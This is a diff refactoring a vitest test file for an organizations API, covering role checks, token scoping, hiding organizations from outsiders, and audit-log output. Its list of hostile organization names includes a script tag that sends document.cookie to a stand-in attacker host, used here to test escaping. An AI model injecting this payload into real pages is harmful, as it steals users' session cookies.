@@ -1,16 +1,11 @@
 // Organizations over HTTP: who sees and changes them, what their log says, and names that look like something else.
 import type { Role } from '@shipway/api/people'
-import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { describe, expect, test } from 'vitest'
 import { databases } from '../../../test/databases.ts'
-import {
-  buildOrganization,
-  buildProject,
-  buildServer,
-  buildToken,
-  buildUser,
-  type TestUser,
-} from '../../../test/factories.ts'
-import { openTestApp, type TestApp } from '../../../test/test-app.ts'
+import { buildOrganization, buildProject, buildServer, buildToken, buildUser } from '../../../test/factories.ts'
+import { stageApp } from '../../../test/stage/stage-app.ts'
+import { stageMembers } from '../../../test/stage/stage-members.ts'
+import { openTestApp } from '../../../test/test-app.ts'
 
 const names = [
   "<script>fetch('//attacker.test/'+document.cookie)</script>",
@@ -34,30 +29,11 @@ const names = [
 ]
 
 describe.each(databases)('organizations on $name', (source) => {
-  let app: TestApp
-  let owner: TestUser
-  let admin: TestUser
-  let member: TestUser
-  let viewer: TestUser
-  let organizationId: number
+  const app = stageApp(source, { hasOpenOrganizations: true })
+  const roles = { owner: 'owner', admin: 'admin', member: 'member', viewer: 'viewer' } as const
+  const { owner, admin, member, viewer, organization: own } = stageMembers(app, roles)
 
-  beforeAll(async () => {
-    app = await openTestApp(source, { hasOpenOrganizations: true })
-    owner = await buildUser(app.ctx)
-    admin = await buildUser(app.ctx)
-    member = await buildUser(app.ctx)
-    viewer = await buildUser(app.ctx)
-    const organization = await buildOrganization(app.ctx, [
-      { user: owner, role: 'owner' },
-      { user: admin, role: 'admin' },
-      { user: member, role: 'member' },
-      { user: viewer, role: 'viewer' },
-    ])
-    organizationId = organization.id
-  })
-  afterAll(() => app.close())
-
-  const path = (rest = '') => `/api/organizations/${organizationId}${rest}`
+  const path = (rest = '') => `/api/organizations/${own.id}${rest}`
   const actionsOf = async (id: number) => {
     const rows = await app.ctx.db.selectFrom('audit_events').where('organization_id', '=', id).selectAll().execute()
     return rows.map(({ action }) => action)
@@ -96,7 +72,7 @@ describe.each(databases)('organizations on $name', (source) => {
   })
 
   test('a token that is bound to an organization makes no other', async () => {
-    const token = await buildToken(app.ctx, owner.id, { organization_id: organizationId })
+    const token = await buildToken(app.ctx, owner.id, { organization_id: own.id })
     const refused = await app.call('POST', '/api/organizations', { as: { token }, body: { name: 'Acme' } })
     expect(refused).toMatchObject({ status: 403, body: { code: 'organization_not_accessible' } })
   })
@@ -148,7 +124,7 @@ describe.each(databases)('organizations on $name', (source) => {
       expect(deleted).toMatchObject({ status: 403, body: { code: 'insufficient_role' } })
     }
     const read = await app.call('GET', path(), { as: viewer })
-    expect(read.body).toMatchObject({ id: organizationId, role: 'viewer' })
+    expect(read.body).toMatchObject({ id: own.id, role: 'viewer' })
     expect(read.body.name).not.toBe('Taken')
   })
 
@@ -203,10 +179,10 @@ describe.each(databases)('organizations on $name', (source) => {
         ['DELETE', `/api/organizations/${id}/invitations/1`, undefined],
         ['GET', `/api/organizations/${id}/audit`, undefined],
       ] as const
-    const before = await actionsOf(organizationId)
+    const before = await actionsOf(own.id)
     for (const user of [stranger, platformAdmin]) {
       const absent = requests(999_999)
-      for (const [index, [method, url, body]] of requests(organizationId).entries()) {
+      for (const [index, [method, url, body]] of requests(own.id).entries()) {
         const hidden = await app.call(method, url, { as: user, body })
         const unknown = await app.call(method, absent[index]?.[1] ?? '', { as: user, body })
         expect(hidden.status).toBe(404)
@@ -214,7 +190,7 @@ describe.each(databases)('organizations on $name', (source) => {
         expect(unknown.body).toMatchObject(said)
       }
     }
-    expect(await actionsOf(organizationId)).toEqual(before)
+    expect(await actionsOf(own.id)).toEqual(before)
   })
 
   test('the audit log is for admins and owners, newest first, with names of fields', async () => {
@@ -234,7 +210,7 @@ describe.each(databases)('organizations on $name', (source) => {
           at: '2026-01-02T03:04:05.678Z',
           actor: { id: owner.id, name: owner.name },
           action: 'organization.updated',
-          target: { kind: 'organization', id: organizationId, name: 'First' },
+          target: { kind: 'organization', id: own.id, name: 'First' },
           fields: ['name'],
           address: '127.0.0.1',
           request_id: expect.any(String),
